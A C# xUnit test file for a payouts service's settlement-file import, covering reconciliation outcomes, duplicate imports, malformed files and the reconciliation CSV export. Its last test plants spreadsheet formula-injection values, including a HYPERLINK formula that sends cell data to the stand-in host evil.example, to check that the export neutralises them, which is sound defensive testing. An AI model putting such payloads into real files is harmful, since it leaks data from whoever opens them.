using System.Net;

namespace Payouts.Tests;

/// <summary>The provider's settlement file: each kind of outcome, the same file twice, malformed files, the report.</summary>
public sealed class SettlementTests(PayoutsService service) : LedgerTest(service), IClassFixture<PayoutsService>
{
    private const string Header = "line_id,status,amount,currency,provider_reference,failure_reason";

    /// <summary>An exported batch with one line per creator (fees 10, 20, 30, … USD); the creators in line order of their fees.</summary>
    private static async Task<(Guid Batch, Dictionary<Guid, Guid> LineOf)> ExportedBatchAsync(PayoutDesk desk, int creators)
    {
        var payees = new List<Guid>();
        for (var i = 1; i <= creators; i++)
        {
            payees.Add(await desk.PayeeAsync("USD", 10m * i));
        }

        var batch = PayoutDesk.BatchOf(await desk.RunReadAsync());
        await desk.ApproveAsync(batch);
        (await desk.ExportAsync(batch)).EnsureSuccessStatusCode();
        var lines = (await desk.BatchAsync(batch)).GetProperty("lines").EnumerateArray()
            .ToDictionary(l => l.GetProperty("creatorId").GetGuid(), l => l.GetProperty("id").GetGuid());
        return (batch, payees.ToDictionary(p => p, p => lines[p]));
    }

    private static Dictionary<string, string> Outcomes(JsonElement import) =>
        import.GetProperty("rows").EnumerateArray().ToDictionary(r => r.GetProperty("reference").GetString()!, r => r.GetProperty("outcome").GetString()!);

    [Fact]
    public async Task Each_line_is_reconciled_paid_failed_mismatched_unknown_or_missing_and_the_same_file_twice_changes_nothing()
    {
        var desk = new PayoutDesk(Service);
        var (batch, lineOf) = await ExportedBatchAsync(desk, 5);
        var (paid, failed, mismatched, missing, paidLater) = (lineOf.Keys.ElementAt(0), lineOf.Keys.ElementAt(1), lineOf.Keys.ElementAt(2), lineOf.Keys.ElementAt(3), lineOf.Keys.ElementAt(4));
        var stranger = Guid.CreateVersion7();
        var file = $"""
            {Header}
            {lineOf[paid]},paid,10.00,USD,PRV-1,
            {lineOf[failed]},failed,20.00,USD,PRV-2,"Account closed, payee unreachable"
            {lineOf[mismatched]},paid,29.00,USD,PRV-3,
            {stranger},paid,5.00,USD,PRV-4,
            {lineOf[paidLater]},paid,50,USD,PRV-5,
            """;

        var first = await desk.SettleAsync(batch, file);
        var firstReport = JsonDocument.Parse(await first.Content.ReadAsStringAsync()).RootElement;
        var transactionsAfterFirst = await Service.ScalarAsync<long>("SELECT count(*) FROM journal_transactions WHERE brand_id = @b", ("b", desk.Brand));
        var again = JsonDocument.Parse(await (await desk.SettleAsync(batch, file)).Content.ReadAsStringAsync()).RootElement;

        Assert.Equal(HttpStatusCode.OK, first.StatusCode);
        Assert.Equal(new Dictionary<string, string>
        {
            [lineOf[paid].ToString()] = "paid", [lineOf[failed].ToString()] = "failed", [lineOf[mismatched].ToString()] = "amount_mismatch",
            [stranger.ToString()] = "unknown_reference", [lineOf[paidLater].ToString()] = "paid", [lineOf[missing].ToString()] = "missing",
        }, Outcomes(firstReport));
        Assert.Equal(firstReport.GetProperty("importId").GetGuid(), again.GetProperty("importId").GetGuid());
        Assert.Equal(transactionsAfterFirst, await Service.ScalarAsync<long>("SELECT count(*) FROM journal_transactions WHERE brand_id = @b", ("b", desk.Brand)));
        Assert.Equal((0m, 0m), await desk.BalancesAsync(paid));
        Assert.Equal((20m, 0m), await desk.BalancesAsync(failed));
        Assert.Equal((0m, 30m), await desk.BalancesAsync(mismatched));
        Assert.Equal((0m, 40m), await desk.BalancesAsync(missing));
        var detail = await desk.BatchAsync(batch);
        Assert.Equal("exported", detail.GetProperty("batch").GetProperty("status").GetString());
        var failedLine = detail.GetProperty("lines").EnumerateArray().Single(l => l.GetProperty("creatorId").GetGuid() == failed);
        Assert.Equal(("failed", "Account closed, payee unreachable"), (failedLine.GetProperty("status").GetString(), failedLine.GetProperty("failureReason").GetString()));

        // The provider corrects the rest: the batch settles once every line is final.
        var second = $"""
            {Header}
            {lineOf[mismatched]},paid,30.00,USD,PRV-3b,
            {lineOf[missing]},paid,40.00,USD,PRV-6,
            {lineOf[paid]},paid,10.00,USD,PRV-1,
            """;
        var settled = JsonDocument.Parse(await (await desk.SettleAsync(batch, second)).Content.ReadAsStringAsync()).RootElement;
        var afterSettled = await desk.SettleAsync(batch, file.Replace("PRV-4", "PRV-9", StringComparison.Ordinal));

        Assert.Equal("already_settled", Outcomes(settled)[lineOf[paid].ToString()]);
        Assert.Equal("settled", (await desk.BatchAsync(batch)).GetProperty("batch").GetProperty("status").GetString());
        Assert.Equal(HttpStatusCode.Conflict, afterSettled.StatusCode);
        Assert.Equal(4L, await desk.TransactionsAsync(CauseTypes.PayoutPaid));
        Assert.Equal(1L, await desk.TransactionsAsync(CauseTypes.PayoutReturned));

        var report = await Service.ReadAsync(HttpMethod.Get, $"/api/payouts/batches/{batch}/reconciliation", desk.Brand);
        Assert.Equal(2, report.GetProperty("imports").GetArrayLength());
        var csvResponse = await Service.SendAsync(HttpMethod.Get, $"/api/payouts/batches/{batch}/reconciliation?format=csv", desk.Brand);
        var csv = (await csvResponse.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("text/csv", csvResponse.Content.Headers.ContentType?.MediaType);
        Assert.StartsWith("import_id,imported_at,file_line,reference,line_id,creator_id,outcome,", csv[0], StringComparison.Ordinal);
        Assert.Equal(6 + 3, csv.Length - 1);
        Assert.Contains(csv, l => l.Contains(",failed,", StringComparison.Ordinal) && l.Contains("\"Account closed, payee unreachable\"", StringComparison.Ordinal));

        var events = await Service.EventTypesAsync(desk.Brand);
        Assert.Equal((4, 1, 2), (events.Count(e => e == "PayoutLinePaid"), events.Count(e => e == "PayoutLineFailed"), events.Count(e => e == "PayoutBatchReconciled")));
    }

    [Theory]
    [InlineData("line_id,status,amount,currency,provider_reference\n", "line 1")]
    [InlineData("{H}\n{L},paid,12.5x,USD,PRV-1,\n", "line 2: amount")]
    [InlineData("{H}\n{L},paid,10.00,USD,PRV-1,\n{L2},refunded,20.00,USD,PRV-2,\n", "line 3: status")]
    [InlineData("{H}\n{L},paid,10.00,USD,PRV-1,\n\n{L2},paid,20.00,USD\n", "line 4")]
    [InlineData("{H}\nnot-a-line,paid,10.00,USD,PRV-1,\n", "line 2: line_id")]
    [InlineData("{H}\n{L},paid,10.00,USD,PRV-1,\n{L},paid,10.00,USD,PRV-1,\n", "line 3: line_id")]
    [InlineData("{H}\n{L},paid,99999999999999999999,USD,PRV-1,\n", "line 2: amount")]
    public async Task A_malformed_file_is_refused_naming_the_line_and_column_and_changes_nothing(string template, string fault)
    {
        var desk = new PayoutDesk(Service);
        var (batch, lineOf) = await ExportedBatchAsync(desk, 2);
        var file = template.Replace("{H}", Header, StringComparison.Ordinal).Replace("{L2}", lineOf.Values.Last().ToString(), StringComparison.Ordinal)
            .Replace("{L}", lineOf.Values.First().ToString(), StringComparison.Ordinal);

        var refused = await desk.SettleAsync(batch, file);

        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        Assert.Equal([fault], await refused.ErrorFieldsAsync());
        Assert.Equal(0L, await desk.TransactionsAsync(CauseTypes.PayoutPaid));
        Assert.Equal(0L, await Service.ScalarAsync<long>("SELECT count(*) FROM settlement_imports WHERE brand_id = @b", ("b", desk.Brand)));
        Assert.Equal("exported", (await desk.BatchAsync(batch)).GetProperty("batch").GetProperty("status").GetString());
    }

    [Fact]
    public async Task Only_an_exported_batch_takes_a_settlement_file()
    {
        var desk = new PayoutDesk(Service);
        await desk.PayeeAsync("USD", 10m);
        var batch = PayoutDesk.BatchOf(await desk.RunReadAsync());
        var line = (await desk.BatchAsync(batch)).GetProperty("lines")[0].GetProperty("id").GetGuid();

        var draft = await desk.SettleAsync(batch, $"{Header}\n{line},paid,10.00,USD,PRV-1,\n");
        var empty = await desk.SettleAsync(batch, "");
        var unknown = await desk.SettleAsync(Guid.CreateVersion7(), $"{Header}\n");

        Assert.Equal(HttpStatusCode.Conflict, draft.StatusCode);
        Assert.Equal(["file"], await empty.ErrorFieldsAsync());
        Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);
        Assert.Equal((0m, 10m), await desk.BalancesAsync((await desk.BatchAsync(batch)).GetProperty("lines")[0].GetProperty("creatorId").GetGuid()));
    }

    /// <summary>Security finding 1 (docs/reliability.md): the provider's text reaches finance's spreadsheet as text, amounts as numbers.</summary>
    [Fact]
    public async Task The_reconciliation_csv_defuses_the_providers_text_and_keeps_amounts_numbers()
    {
        var desk = new PayoutDesk(Service);
        var (batch, lineOf) = await ExportedBatchAsync(desk, 2);
        const string reference = "\t@SUM(A1:A9)";
        const string reason = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        var file = $"""
            {Header}
            {lineOf.Values.First()},paid,10.00,USD,"{reference}",
            {lineOf.Values.Last()},failed,20.00,USD,PRV-2,"{reason.Replace("\"", "\"\"", StringComparison.Ordinal)}"
            """;
        (await desk.SettleAsync(batch, file)).EnsureSuccessStatusCode();

        var response = await Service.SendAsync(HttpMethod.Get, $"/api/payouts/batches/{batch}/reconciliation?format=csv", desk.Brand);
        using var csv = CsvHelper.CsvReader.FromText(await response.Content.ReadAsStringAsync(), CsvHelper.CsvReaderOptions.Default with { Separator = ',' });
        var rows = new List<(string Outcome, string ProviderReference, string FailureReason, string Expected)>();
        while (csv.Read())
        {
            rows.Add((csv.GetString("outcome"), csv.GetString("provider_reference"), csv.GetString("failure_reason"), csv.GetString("expected_amount")));
        }

        Assert.Equal([("paid", "'" + reference, "", "10"), ("failed", "PRV-2", "'" + reason, "20")], rows);
    }
}
